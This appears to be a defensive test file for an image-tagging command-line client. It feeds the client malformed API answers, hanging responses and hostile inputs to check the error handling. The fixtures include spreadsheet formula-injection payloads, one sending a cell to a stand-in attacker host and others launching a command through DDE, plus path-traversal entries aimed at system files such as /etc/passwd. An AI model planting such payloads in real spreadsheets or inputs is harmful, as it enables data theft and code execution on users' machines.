@@ -1,0 +1,271 @@
+"""A tagger that survives its server and its inputs: an API on 127.0.0.1 answering every wrong shape, URL lists
+and CSVs that name this machine's files, resume files of any shape, spreadsheet formulas."""
+
+import csv
+import json
+import os
+import time
+from collections import Counter
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from harness.servers import Quiet, reply, serving
+from lambda_fn import client, tag
+
+MODEL = {"name": "m", "sha256": "0" * 64, "min_confidence": 0.9, "target_precision": 0.98}
+PREDICTION = {
+    "label": "hat",
+    "probability": 0.95,
+    "confident": True,
+    "probabilities": [{"label": "hat", "probability": 0.95}, {"label": "dress", "probability": 0.05}],
+    "model": MODEL,
+}
+# What the API answers for a URL ending in /<case>.jpg: (status, body, headers) or a callable of the handler
+WRONG_SHAPES = {
+    "string": json.dumps("just a string"),
+    "list": "[1, 2]",
+    "model-string": json.dumps({**PREDICTION, "model": "m"}),
+    "number-probabilities": json.dumps({**PREDICTION, "probabilities": [0.95, 0.05]}),
+    "no-label": json.dumps({"probability": 0.5, "probabilities": []}),
+    "probability-nan": json.dumps({**PREDICTION, "probability": float("nan")}),
+    "confident-string": json.dumps({**PREDICTION, "confident": "yes"}),
+    "error-string": json.dumps({"error": "boom"}),
+}
+FORMULAS = {
+    "formula-label": '=HYPERLINK("http://attacker.invalid/?d="&A1,"click")',
+    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula-plus": "+cmd|' /C calc'!A0",
+}
+
+
+class HostileApi(Quiet):
+    """API Gateway gone wrong: one misbehaviour a case, named by the requested URL's file name."""
+
+    seen: Counter  # requests per case
+    uploads: list  # the Content-Types of bodies that were not JSON: files sent
+
+    def do_POST(self):
+        if self.headers["Content-Type"] != "application/json":
+            self.uploads.append(self.headers["Content-Type"])
+            return reply(self, 400, b"{}")
+        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        urls = body.get("urls") or [body["url"]]
+        case = urls[0].rsplit("/", 1)[1].removesuffix(".jpg")
+        self.seen[case] += 1
+        if "urls" in body:  # a batch: one result short
+            return reply(self, 200, json.dumps({"results": [PREDICTION] * (len(urls) - 1), "model": MODEL}).encode())
+        if case in WRONG_SHAPES:
+            return reply(self, 200, WRONG_SHAPES[case].encode())
+        if case in FORMULAS:
+            return reply(
+                self, 200, json.dumps({**PREDICTION, "label": FORMULAS[case], "model": {"name": "=1+1"}}).encode()
+            )
+        if case.startswith("retry-after-") and self.seen[case] == 1:
+            return reply(self, 503, b"{}", headers={"Retry-After": case.removeprefix("retry-after-")})
+        if case == "truncated" and self.seen[case] == 1:  # says 1000 bytes, sends 10, hangs up
+            self.send_response(200)
+            self.send_header("Content-Length", "1000")
+            self.end_headers()
+            self.wfile.write(b'{"label": ')
+            self.close_connection = True
+            return
+        if case == "huge":  # an endless answer: must not be read whole
+            self.send_response(200)
+            self.end_headers()
+            try:
+                for _ in range(1000):
+                    self.wfile.write(b" " * 65536)
+            except OSError:
+                pass
+            return
+        if case == "drip":  # a byte every 0.2 s: each read is quick, the whole is not
+            self.send_response(200)
+            self.send_header("Content-Length", "100000")
+            self.end_headers()
+            try:
+                for _ in range(500):
+                    self.wfile.write(b" ")
+                    self.wfile.flush()
+                    time.sleep(0.2)
+            except OSError:
+                pass
+            return
+        reply(self, 200, json.dumps(PREDICTION).encode())
+
+
+def hostile_api(uploads: list | None = None):
+    return serving(type("Handler", (HostileApi,), {"seen": Counter(), "uploads": [] if uploads is None else uploads}))
+
+
+def rows_of(path: Path) -> dict[str, dict]:
+    return {r["source"]: r for r in map(json.loads, path.read_text().splitlines())}
+
+
+def test_every_wrong_answer_becomes_its_sources_error_row_and_the_run_goes_on(tmp_path, monkeypatch):
+    monkeypatch.setattr(client, "MAX_RETRY_AFTER", 0.2)  # the clamp, made short for the test
+    cases = [*WRONG_SHAPES, "retry-after-1e308", "retry-after-inf", "retry-after-999999", "truncated", "huge"]
+    cases += ["drip", "fine"]
+    sources = [f"http://127.0.0.1:9/{case}.jpg" for case in cases]
+    out = tmp_path / "tags.jsonl"
+    started = time.monotonic()
+    with hostile_api() as api:
+        flags = ["--api", api, "--batch", "1", "--backoff", "0.01", "--attempts", "2", "--timeout", "2"]
+        status = tag.main([*sources, *flags, "--out", str(out)])
+    rows = rows_of(out)
+    assert status == 1 and sorted(rows) == sorted(sources) and time.monotonic() - started < 30
+    by_case = {case: rows[url] for case, url in zip(cases, sources, strict=True)}
+    for case in WRONG_SHAPES:
+        assert by_case[case]["error_code"] == "bad_answer" and "shape" in by_case[case]["error_message"], case
+    for case in ("retry-after-1e308", "retry-after-inf", "retry-after-999999", "truncated"):  # retried, then fine
+        assert by_case[case]["label"] == "hat" and by_case[case]["attempts"] == 2, case
+    assert by_case["huge"]["error_code"] == "bad_answer" and "over 1048576 bytes" in by_case["huge"]["error_message"]
+    assert by_case["drip"]["error_code"] == "unavailable" and "deadline" in by_case["drip"]["error_message"]
+    assert by_case["fine"]["confident"] is True and by_case["fine"]["min_confidence"] == 0.9
+
+
+def test_a_batch_answered_with_too_few_results_is_each_sources_error(tmp_path):
+    sources = [f"http://127.0.0.1:9/batch{k}.jpg" for k in range(3)]
+    out = tmp_path / "tags.jsonl"
+    with hostile_api() as api:
+        tag.main([*sources, "--api", api, "--batch", "3", "--out", str(out)])
+    rows = rows_of(out)
+    assert [r["error_code"] for r in rows.values()] == ["bad_answer"] * 3
+    assert "not a list of 3 results" in rows[sources[0]]["error_message"]
+
+
+@pytest.mark.parametrize("value, seconds", [("1e308", 60.0), ("inf", 60.0), ("999999", 60.0), ("-5", 0.0), ("2", 2.0)])
+def test_retry_after_is_clamped(value, seconds):
+    assert client.retry_after(value) == seconds
+    assert client.retry_after("nan") is None and client.retry_after("soon") is None
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_read_back(tmp_path):
+    sources = [f"http://127.0.0.1:9/{case}.jpg" for case in FORMULAS]
+    out = tmp_path / "tags.csv"
+    with hostile_api() as api:
+        tag.main([*sources, "--api", api, "--batch", "1", "--format", "csv", "--out", str(out)])
+    with out.open(newline="") as f:
+        cells = [cell for r in csv.DictReader(f) for cell in r.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + FORMULAS["formula-label"] in cells and "'=1+1" in cells
+    restored = {r["source"]: r for r in tag.previous_rows(out, "csv")}
+    assert [restored[s]["label"] for s in sources] == list(FORMULAS.values())  # resume reads the labels back
+
+
+texts = st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)
+json_values = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | texts,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
+    max_leaves=20,
+)
+answers = st.fixed_dictionaries(
+    {},
+    optional={
+        "label": json_values | texts,
+        "probability": json_values | st.floats(0, 1),
+        "confident": json_values | st.booleans(),
+        "probabilities": json_values
+        | st.lists(st.fixed_dictionaries({"label": texts, "probability": st.floats(0, 1)}), max_size=4),
+        "model": json_values | st.fixed_dictionaries({"name": texts, "sha256": texts}),
+        "error": json_values | st.fixed_dictionaries({"code": texts, "message": texts}),
+    },
+)
+
+
+@settings(max_examples=400, deadline=None)
+@given(json_values | answers)
+def test_any_json_answer_becomes_a_row_never_an_exception(answer):
+    result = tag.row("http://127.0.0.1:9/x.jpg", tag.checked(answer), 1)
+    assert tag.fits(result)
+    assert (result["error_code"] is None) is (tag.shape_problem(answer) is None and "error" not in answer)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.fixed_dictionaries({"label": texts.filter(bool), "message": texts, "source": texts.filter(bool)})))
+def test_rows_of_any_text_survive_the_csv_round_trip(tmp_path_factory, found):
+    out = tmp_path_factory.mktemp("rows") / "tags.csv"
+    rows = [
+        tag.row(f["source"], {"error": {"code": "x", "message": f["message"]}}, 1)
+        if f["message"]
+        else tag.row(f["source"], {**PREDICTION, "label": f["label"]}, 1)
+        for f in found
+    ]
+    table = tag.Table(out, "csv")
+    for r in rows:
+        table.write(r)
+    table.close()
+    assert tag.previous_rows(out, "csv") == rows
+
+
+def test_inputs_name_only_urls_and_the_csvs_own_files(tmp_path):
+    """A URL list holds URLs; a CSV's paths stay in its folder; nothing else on this machine is read or sent."""
+    sent: list[str] = []
+    shop = tmp_path / "shop"
+    shop.mkdir()
+    (tmp_path / "secret.jpg").write_bytes(b"not for the API")
+    (shop / "zero.jpg").symlink_to("/dev/zero")
+    os.mkfifo(shop / "pipe.jpg")
+    (shop / "urls.txt").write_text(
+        "/etc/hostname\n../../../../etc/hostname\n/dev/zero\nfile:///etc/passwd\n" + "h" * 5000 + "\n"
+    )
+    (shop / "catalog.csv").write_text(
+        "url\n../secret.jpg\n/etc/hostname\nzero.jpg\npipe.jpg\n"
+        + '"'
+        + "x" * 200_000
+        + '"\nhttp://127.0.0.1:9/ok.jpg\n'
+        + "y" * 3_000_000
+        + "\n"
+    )
+    out = tmp_path / "tags.jsonl"
+    with hostile_api(sent) as api:
+        status = tag.main([str(shop / "urls.txt"), str(shop / "catalog.csv"), "--api", api, "--out", str(out)])
+    rows = list(rows_of(out).values())
+    assert status == 1 and len(rows) == 12 and sent == []  # no file went to the API
+    assert sum(r["error_code"] is None for r in rows) == 1  # the one URL
+    refused = [r for r in rows if r["error_code"]]
+    assert {r["error_code"] for r in refused} == {"invalid_input"}, refused
+    assert sum("outside the CSV's folder" in r["error_message"] for r in refused) == 3  # ../secret, /etc, the link
+    assert sum("not an http(s) URL" in r["error_message"] for r in refused) == 4
+    assert any("not a regular file" in r["error_message"] for r in refused)  # the pipe: no hang, not read
+    assert any("cannot be read" in r["error_message"] for r in refused)  # the 200,000-character cell
+    assert any("over 2048 characters" in r["error_message"] for r in refused)
+    assert any("over 1048576 characters" in r["error_message"] for r in refused)  # a 3 MB line, never held whole
+
+
+def test_resume_drops_rows_of_any_other_shape_and_asks_again(tmp_path):
+    sources = [f"http://127.0.0.1:9/fine{k}.jpg" for k in range(4)]
+    out = tmp_path / "tags.jsonl"
+    good = tag.row(sources[0], PREDICTION, 1)
+    no_error_code = {k: v for k, v in tag.row(sources[1], PREDICTION, 1).items() if k != "error_code"}
+    out.write_text("\n".join([json.dumps(good), "[]", json.dumps(no_error_code), '"text"', "{"]) + "\n")
+    with hostile_api() as api:
+        tag.main([*sources, "--api", api, "--batch", "1", "--out", str(out), "--resume"])
+    assert sorted(rows_of(out)) == sources and len(out.read_text().splitlines()) == 4
+
+
+def test_resume_of_a_csv_cut_inside_a_quoted_multi_line_message(tmp_path):
+    out = tmp_path / "tags.csv"
+    rows = [tag.row(f"http://127.0.0.1:9/fine{k}.jpg", PREDICTION, 1) for k in range(2)]
+    rows.append(tag.row("http://127.0.0.1:9/fine2.jpg", {"error": {"code": "x", "message": "one\ntwo\nthree"}}, 1))
+    table = tag.Table(out, "csv")
+    for r in rows:
+        table.write(r)
+    table.close()
+    text = out.read_text()
+    out.write_text(text[: text.index("two") + 4])  # the stop fell after "one\ntwo\n"
+    assert tag.previous_rows(out, "csv") == rows[:2]
+
+
+def test_the_review_file_holds_the_unsure_rows_and_stays_consistent_on_resume(tmp_path):
+    sure, unsure = "http://127.0.0.1:9/fine.jpg", "http://127.0.0.1:9/unsure.jpg"
+    out, review = tmp_path / "tags.jsonl", tmp_path / "review.jsonl"
+    unsure_row = tag.row(unsure, {**PREDICTION, "confident": False, "candidates": ["hat", "dress"]}, 1)
+    out.write_text(json.dumps(unsure_row) + "\n")  # a stopped run answered the unsure one
+    review.write_text("stale\n")
+    with hostile_api() as api:
+        tag.main([sure, unsure, "--api", api, "--out", str(out), "--review", str(review), "--resume"])
+    assert set(rows_of(out)) == {sure, unsure}
+    assert list(rows_of(review)) == [unsure]  # rewritten: only the out file's unsure rows
